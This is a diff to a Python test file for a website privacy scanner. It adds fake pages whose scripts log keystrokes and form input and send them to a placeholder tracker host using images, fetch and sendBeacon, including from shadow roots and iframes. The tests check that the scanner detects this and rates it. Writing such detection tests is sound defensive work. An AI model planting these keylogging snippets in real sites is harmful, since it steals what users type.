@@ -12,7 +12,7 @@ import pytest
 from browser.sites import bed
 from holdtrue.website.scan.engine.observations import Kind, State
 from holdtrue.website.scan.engine.run import Options, scan
-from holdtrue.website.scan.faults import Fault
+from holdtrue.website.scan.faults import Fault, Severity
 from holdtrue.website.scan.rules import judge
 
 TRACKER = "watch.other.example"
@@ -39,9 +39,35 @@ SCRIPTS = {
     "frame": """const gone = document.createElement("iframe"); gone.src = "http://gone.localhost/frame"; document.body.append(gone);
     addEventListener("message", () => gone.remove());""",
 }
+READING = {
+    "numbers": f"addEventListener('keyup', (event) => {{ new Image().src = 'http://{TRACKER}/k?c=' + event.keyCode; }});",
+    "places": f"const went = []; addEventListener('keydown', (event) => went.push(event.code)); setTimeout(() => fetch('http://{TRACKER}/all', {{ method: 'POST', body: went.join(), mode: 'no-cors' }}), 2500);",
+    "blobs": f"addEventListener('input', (event) => navigator.sendBeacon('http://{TRACKER}/in', new Blob([JSON.stringify({{ v: event.target.value }})])));",
+    "later": f"let held = ''; addEventListener('input', (event) => {{ held = event.target.value; }}); setTimeout(() => fetch('http://{TRACKER}/all?' + held, {{ mode: 'no-cors' }}), 2400);",
+    "home": "addEventListener('input', (event) => navigator.sendBeacon('/replay', event.target.value));",
+    "homekeys": "addEventListener('keydown', (event) => fetch('/replay', { method: 'POST', body: event.key }));",
+    "helpful": "addEventListener('change', (event) => { fetch('/is-free?name=' + event.target.value); localStorage.draft = event.target.value; });",
+}
+FIELDS = {
+    "mailonly": "<form><input type='email' name='to'></form>",
+    "note": "<div contenteditable style='width:300px;height:60px'></div>",
+    "inroot": "<mill-form><template shadowrootmode='open'><textarea name='words'></textarea></template></mill-form>",
+    "inframe": "<iframe srcdoc=\"<textarea name='words'></textarea><script src='http://inframe.localhost/own.js'></script>\"></iframe>",
+}
+SENDING = f"addEventListener('input', (event) => navigator.sendBeacon('http://{TRACKER}/in', event.target.value || event.composedPath()[0].value || event.target.textContent));"
+for name, text in READING.items():
+    SCRIPTS[f"reads-{name}"] = text
+for name in FIELDS:
+    SCRIPTS[name] = SENDING
 for name, text in SCRIPTS.items():
-    bed.page(f"{name}.localhost")(lambda _: bed.document(f"<h1>Page</h1>{FORM}<script src='/own.js'></script>"))
+    fields = FIELDS.get(name, FORM)
+    bed.page(f"{name}.localhost")(
+        lambda _, fields=fields: bed.document(f"<h1>Page</h1>{fields}<script src='/own.js'></script>")
+    )
     bed.page(f"{name}.localhost", "/own.js")(lambda _, text=text: bed.Answer(text, kind="text/javascript"))
+for path in ("/replay", "/is-free"):
+    for name in ("home", "homekeys", "helpful"):
+        bed.page(f"reads-{name}.localhost", path)(lambda _: bed.Answer("", status=204))
 bed.page(TRACKER, "*")(lambda _: bed.Answer("", status=204))
 
 LEFT = """<script>indexedDB.open("gone_base").onsuccess = (one) => { one.target.result.close();
@@ -101,6 +127,41 @@ def test_a_script_that_sends_each_letter_by_itself_reads_along(look):
     (one,) = [one for one in sighting.observations if one.kind is Kind.KEY_LOGGING]
     assert (one.domain, one.set_by, one.via) == (TRACKER, "http://letters.localhost/own.js", "letter by letter")
     assert Fault.KEY_LOGGING in {finding.fault for finding in judge(sighting, (), has_policy=True)}
+
+
+@pytest.mark.parametrize(
+    ("name", "via"),
+    [
+        ("reads-numbers", "letter by letter"),
+        ("reads-places", "letter by letter"),
+        ("reads-blobs", "text"),
+        ("reads-later", "text"),
+        ("mailonly", "text"),
+        ("note", "text"),
+        ("inroot", "text"),
+        ("inframe", "text"),
+    ],
+)
+def test_whoever_reads_along_is_told_however_it_is_done_and_before_any_choice(look, name, via):
+    told = [
+        (one.domain, one.via, one.state)
+        for one in look(f"http://{name}.localhost/").observations
+        if one.kind is Kind.KEY_LOGGING
+    ]
+
+    assert told == [(TRACKER, via, State.NO_CHOICE)]
+
+
+@pytest.mark.parametrize("name", ["reads-home", "reads-homekeys"])
+def test_a_site_that_reads_along_itself_is_told_with_less_weight(look, name):
+    findings = judge(look(f"http://{name}.localhost/"), (), has_policy=True)
+
+    told = [(one.subject, one.severity) for one in findings if one.fault is Fault.KEY_LOGGING]
+    assert told == [(f"{name}.localhost", Severity.MEDIUM)]
+
+
+def test_a_site_that_checks_its_own_form_reads_nothing(look):
+    assert told(look("http://reads-helpful.localhost/"), Kind.KEY_LOGGING) == set()
 
 
 def test_a_script_that_knows_one_key_reads_nothing(look):
